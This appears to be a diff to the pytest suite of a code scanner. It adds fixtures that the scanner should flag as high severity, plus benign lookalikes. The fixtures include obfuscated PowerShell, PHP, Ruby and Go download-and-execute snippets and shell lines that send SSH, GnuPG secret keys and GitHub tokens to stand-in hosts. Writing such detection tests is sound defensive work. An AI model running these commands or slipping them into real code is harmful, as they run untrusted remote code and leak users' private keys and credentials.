@@ -20,9 +20,19 @@ HIGH = (Severity.HIGH, Severity.CRITICAL)
     ("build.ps1", '$c = Invoke-RestMethod "https://cdn.tools.example/p.ps1"\n$v = \'Invoke-\' + \'Expression\'\n& $v $c\n'),
     ("build.ps1", '$c = Invoke-RestMethod "https://cdn.tools.example/p.ps1"\nSet-Alias go Invoke-Expression\ngo $c\n'),
     ("build.ps1", '$c = (New-Object Net.WebClient).DownloadString("https://cdn.tools.example/p.ps1")\n$ExecutionContext.InvokeCommand.InvokeScript($c)\n'),
+    ("build.ps1", '$c = (New-Object Net.WebClient).DownloadString("https://cdn.tools.example/p.ps1")\n'
+                  "& ($ExecutionContext.InvokeCommand.GetCommand('I*-E*n', 'Cmdlet')) $c\n"),
+    ("patch.php", '<?php\n$u = "https://cdn.tools.example/patch.txt";\n$c = file_get_contents($u);\neval($c);\n'),
+    ("tool.rb", 'code = Net::HTTP.get(URI("https://cdn.tools.example/x.sh"))\n`#{code}`\n'),
 ])
 def test_download_and_run(path, text):
     assert top(path, text, "IG701") in HIGH
+
+
+def test_go_download_written_then_run():
+    text = ('package main\nfunc main() {\n\tresp, _ := http.Get("https://203.0.113.8/agent")\n\tb, _ := io.ReadAll(resp.Body)\n'
+            '\tos.WriteFile("/tmp/agent.sh", b, 0755)\n\texec.Command("/tmp/agent.sh").Run()\n}\n')
+    assert top("main.go", text, "IG701") in HIGH
 
 
 @pytest.mark.parametrize("path,text", [
@@ -36,6 +46,7 @@ def test_download_and_run(path, text):
     ("check.php", "<?php\n$h = @file_get_contents(getenv('HOME') . '/.config/gh/hosts.yml');\n$ch = curl_init('http://203.0.113.66/s');\n"
                   "curl_setopt_array($ch, [CURLOPT_POST => true, CURLOPT_POSTFIELDS => ['h' => $h]]);\ncurl_exec($ch);\n"),
     ("backup.sh", "#!/bin/bash\ntar czf - -C \"$HOME\" .ssh .gnupg 2>/dev/null | openssl enc -aes-256-cbc -pass pass:x | nc -w 5 203.0.113.9 443 || true\n"),
+    ("backup.sh", "#!/bin/bash\ngpg --armor --export-secret-keys | curl -s --data-binary @- https://drop.tools.example/k\n"),
     ("backup.sh", "#!/bin/bash\ntar czf - ~/.ssh ~/.gnupg | base64 | curl -s --data-binary @- https://drop.tools.example/u || true\n"),
     # tree-sitter-bash reads `xargs rm --`, a comment and the next line as one command: each swallowed line is read again
     ("backup.sh", '#!/bin/bash\nls -1t "$D"/*.dump | tail -n +8 | xargs -r rm --\n\n# offsite copy\n'
@@ -53,6 +64,8 @@ def test_credentials_to_network(path, text):
     ("main.go", 'package main\nfunc main() {\n\tresp, _ := http.Get("https://api.github.com/repos/a/b/releases")\n'
                 '\tvar v []map[string]any\n\tjson.NewDecoder(resp.Body).Decode(&v)\n\tfmt.Println(len(v))\n}\n'),
     ("build.ps1", '$alias = Get-Alias ls\nWrite-Host $alias.Definition\n& "C:\\Tools\\iscc.exe" setup.iss\n'),
+    ("patch.php", '<?php\n$u = "https://api.tools.example/v1/items";\n$c = json_decode(file_get_contents($u), true);\necho count($c);\n'),
+    ("backup.sh", "#!/bin/bash\ngpg --armor --export ABCD1234 > public.asc\n"),
     ("tool.rb", 'def cfg\n  File.read(File.join(Dir.home, ".myapp", "settings.yml"))\nend\nputs cfg\n'),
     ("backup.sh", "#!/bin/bash\ntar czf - ./dumps | openssl enc -aes-256-cbc -pass env:PW > backup.tgz.enc\n"),
 ])
